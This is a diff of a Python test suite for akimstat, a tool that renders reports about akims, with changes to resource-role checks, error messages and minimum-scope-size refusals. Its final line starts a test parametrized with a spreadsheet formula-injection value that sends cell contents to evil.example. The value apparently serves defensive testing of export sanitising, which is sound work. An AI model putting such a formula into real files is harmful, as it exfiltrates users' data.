@@ -676,7 +676,7 @@ ROUND_TWO = {
                                        name="counts.csv"),
     "unknown_age_under_category": Case(table(COUNTS_HEADER, "2013,national,akims,age_under,young,,"
                                              "2454,30.5,article,,"), 2, "category",
-                                       "an age_under category", name="counts.csv"),
+                                       "under_<years>, the threshold in the code", name="counts.csv"),
     "unknown_category_in_population": Case(table(POPULATION_HEADER, "sex,woman,51.8,census2009,"),
                                            2, "category", "a sex code: one of",
                                            name="population.csv"),
@@ -720,17 +720,17 @@ def _edit_csv(relative: str, old: str, new: str):
     return apply
 
 
-def _drop_role(role: str):
-    return _edit(lambda d: d.update(resources=[r for r in d["resources"] if r["akimstat:role"] != role]))
+def _drop_roles(*roles: str):
+    return _edit(lambda d: d.update(resources=[r for r in d["resources"] if r["akimstat:role"] not in roles]))
 
 
 FOLDERS = {
     # name: (change(root), file, where after the file, says)
     "min_age_negative": (_edit_csv("codes/cycles.csv", "2013-08-04,18,", "2013-08-04,-5,"),
                          "codes/cycles.csv", ", row 2, column 'min_age'", "a minimum age from 18 to 80"),
-    "no_records_resource": (_drop_role("records"), "datapackage.json", ";",
-                            "a resource with role records"),
-    "no_sources_resource": (_drop_role("sources"), "datapackage.json", ";",
+    "nothing_to_describe": (_drop_roles("records", "counts", "figures"), "datapackage.json", ";",
+                            "a resource with role records (or published counts or figures"),
+    "no_sources_resource": (_drop_roles("sources"), "datapackage.json", ";",
                             "a resource with role sources"),
 }
 
@@ -927,24 +927,25 @@ def test_parameters_that_publish_small_counts_are_warned_about(option, warning, 
     # The scope is refused, so that the warning is seen without a render.
     output = _refused(["render", "--data", str(DATA), "--output", str(tmp_path / "out"), "--quiet",
                        "--scope", "KZ-XXX", *option], tmp_path, "akimstat: error: scope 'KZ-XXX'",
-                      "no records in cycle 2013")
+                      "not national, a region code or a region's name")
     assert f"akimstat: warning: {warning}" in output
 
 
 def test_scope_below_the_minimum_size_gets_no_report(tmp_path, shipped):
     from akimstat.params import ReportParameters
-    from akimstat.plan import plan_jobs, scope_sizes
+    from akimstat.plan import plan_jobs, small_scopes
 
-    sizes = scope_sizes(shipped, "2013")
-    params = ReportParameters(min_scope_size=100)
+    params = ReportParameters(cycle="2013", min_scope_size=100)
+    small = small_scopes(params, shipped, ["2013"])
+    assert small[("2013", "KZ-MAN")] == 58 and ("2013", "national") not in small
     planned = {job.output.split("/")[1] for job in plan_jobs(params, shipped, languages=["en"])}
-    assert planned == {s for s, n in sizes.items() if n >= 100} and "KZ-MAN" not in planned
-    with pytest.raises(ParameterError, match=r"scope KZ-MAN \(58 akims\): fewer akims in cycle 2013 "
+    assert planned and not planned & {scope for _, scope in small}
+    with pytest.raises(ParameterError, match=r"scope KZ-MAN \(58 akims in cycle 2013\): fewer akims "
                                              r"than parameter 'min_scope_size', 100"):
         plan_jobs(params, shipped, ["KZ-MAN"], ["en"])
-    _refused(["render", "--data", str(DATA), "--output", str(tmp_path / "out"), "--quiet",
-              "--scope", "KZ-MAN", "-p", "min_scope_size=100"], tmp_path, "akimstat: error: scope KZ-MAN",
-             "a report about so few people discloses them")
+    _refused(["render", "--data", str(DATA), "--output", str(tmp_path / "out"), "--quiet", "--cycle",
+              "2013", "--scope", "KZ-MAN", "-p", "min_scope_size=100"], tmp_path,
+             "akimstat: error: scope KZ-MAN", "a report about so few people discloses them")
 
 
 def test_a_corps_of_one_gets_no_report(tmp_path):
@@ -953,9 +954,9 @@ def test_a_corps_of_one_gets_no_report(tmp_path):
         path = root / "synthetic" / name
         path.write_text("".join(path.read_text(encoding="utf-8").splitlines(keepends=True)[:2]),
                         encoding="utf-8")
-    _refused(["render", "--data", str(root), "--output", str(tmp_path / "out"), "--quiet"], tmp_path,
-             "akimstat: error: scope national (1 akims)", "fewer akims in cycle 2013 than parameter "
-             "'min_scope_size', 10")
+    _refused(["render", "--data", str(root), "--output", str(tmp_path / "out"), "--quiet", "--cycle",
+              "2013"], tmp_path, "akimstat: error: scope national (1 akims in cycle 2013)",
+             "fewer akims than parameter 'min_scope_size', 10")
 
 
 @pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=1+1", "@SUM(A1)",
